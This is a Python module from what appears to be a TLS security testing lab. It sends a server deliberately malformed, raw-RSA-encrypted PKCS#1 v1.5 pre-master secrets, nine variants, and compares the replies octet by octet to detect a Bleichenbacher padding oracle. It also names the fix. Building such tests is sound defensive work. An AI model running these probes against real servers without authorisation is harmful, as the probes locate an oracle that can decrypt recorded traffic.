"""`bleichenbacher`: Alice asks whether the bank's answer depends on what is wrong with an encrypted secret.

Alice sends the bank one ClientKeyExchange after another. Each EncryptedPreMasterSecret decrypts to a block that is
wrong in another way (RFC 8017, 7.2.2 says what is right). She compares the answers octet for octet. A difference would
make an oracle, and with about a million questions an oracle decrypts one recording. Alice only looks for the
difference. `measures` takes the answers, and their times, from the trace.
"""

from __future__ import annotations

from collections.abc import Callable
from functools import partial
from typing import TYPE_CHECKING

from cryptography import x509
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPublicKey

from trustlab import tls
from trustlab.attacks.alice.applications import Quiet
from trustlab.attacks.alice.legs import Credentials, TowardsServer
from trustlab.attacks.alice.tools import Alice
from trustlab.attacks.attack import Attack

if TYPE_CHECKING:
    from trustlab.cloud import Guest

ATTACK = Attack(
    name="bleichenbacher",
    needs=("a connection to the bank, which anybody can open",),
    steps=(
        "encrypts to the bank's key blocks that are wrong in one way each",
        "finishes every handshake with keys that cannot be the right ones",
        "compares the bank's answers, octet for octet",
    ),
    breaks="confidentiality",
    why="A server that reveals what was wrong with a ciphertext helps to decrypt it, bit by bit.",
    source="Bleichenbacher (1998); RFC 5246 7.4.7.1",
    stopped_by="the server uses a random secret in place of a bad one, and sends the same alert whatever was wrong",
    tls="1.2",
    prize="oracle",
)
NO_EVIDENCE = b"\0"
"""What she shows as evidence; it would be judged only after the handshake, which she cannot finish with her keys."""
PMS = 48
V12 = b"\x03\x03"
Draw = Callable[[int], bytes]


def _fill(draw: Draw, size: int) -> bytes:
    """Return padding: random octets that are not zero."""
    return bytes(1 + octet % 255 for octet in draw(size))


def _block(draw: Draw, k: int, head: bytes, secret: bytes, *, separator: bytes = b"\0") -> bytes:
    return head + _fill(draw, k - len(head) - len(separator) - len(secret)) + separator + secret


VARIANTS: dict[str, Callable[[Draw, int], bytes]] = {
    "correct": lambda draw, k: _block(draw, k, b"\0\2", V12 + draw(PMS - 2)),
    "another version inside": lambda draw, k: _block(draw, k, b"\0\2", b"\3\1" + draw(PMS - 2)),
    "a secret too short": lambda draw, k: _block(draw, k, b"\0\2", V12 + draw(PMS - 3)),
    "a secret too long": lambda draw, k: _block(draw, k, b"\0\2", V12 + draw(PMS - 1)),
    "no secret at all": lambda draw, k: _block(draw, k, b"\0\2", b""),
    "block type 1": lambda draw, k: _block(draw, k, b"\0\1", V12 + draw(PMS - 2)),
    "a first octet that is not zero": lambda draw, k: _block(draw, k, b"\1\2", V12 + draw(PMS - 2)),
    "no zero after the padding": lambda draw, k: b"\0\2" + _fill(draw, k - 2),
    "a zero within the padding's first eight octets": lambda draw, k: b"\0\2\0" + _fill(draw, k - 3),
}
"""What is wrong with a block of k octets, and how to make it (RFC 8017, 7.2.2: 00 02 PS 00 M, PS at least 8)."""


def start(guest: Guest) -> None:
    """Ask the bank once for every variant."""
    alice = Alice(guest, ATTACK)
    shows = Credentials.of(alice.rogue_identity()) if alice.design.client_key else None
    for name, make in VARIANTS.items():
        alice.connect(partial(Questioner, alice, make, shows))
        alice.tell(name, f"asks the bank to decrypt a secret of this kind: {name}.")


class Questioner(TowardsServer):
    """A client whose EncryptedPreMasterSecret decrypts to a block of Alice's, and whose keys are random."""

    def __init__(self, alice: Alice, make: Callable[[Draw, int], bytes], shows: Credentials | None, name: str) -> None:
        super().__init__(alice, name, Quiet(), shows=shows)
        self._make = make
        self._draw = alice.guest.random

    def respond(self, request: tls.Request) -> None:
        """Send the block in place of the secret, and something in place of the evidence."""
        match request:
            case tls.EvidenceWanted():
                self.connection.answer(request, NO_EVIDENCE)
            case tls.PreMasterSecretReady():
                certificate = x509.load_der_x509_certificate(self.connection.peer_certificates[0])
                key = certificate.public_key()
                if not isinstance(key, RSAPublicKey):
                    raise TypeError(f"this attack needs an RSA key, and the bank's is a {type(key).__name__}")
                epms = encrypted(key, self._make(self._draw, key.key_size // 8))
                self.connection.answer(request, tls.ChosenPreMasterSecret(self._draw(PMS), epms))
            case _:
                super().respond(request)


def encrypted(key: RSAPublicKey, block: bytes) -> bytes:
    """Return a block raised to the public exponent, without any padding: k octets."""
    numbers = key.public_numbers()
    return pow(int.from_bytes(block, "big"), numbers.e, numbers.n).to_bytes(key.key_size // 8, "big")
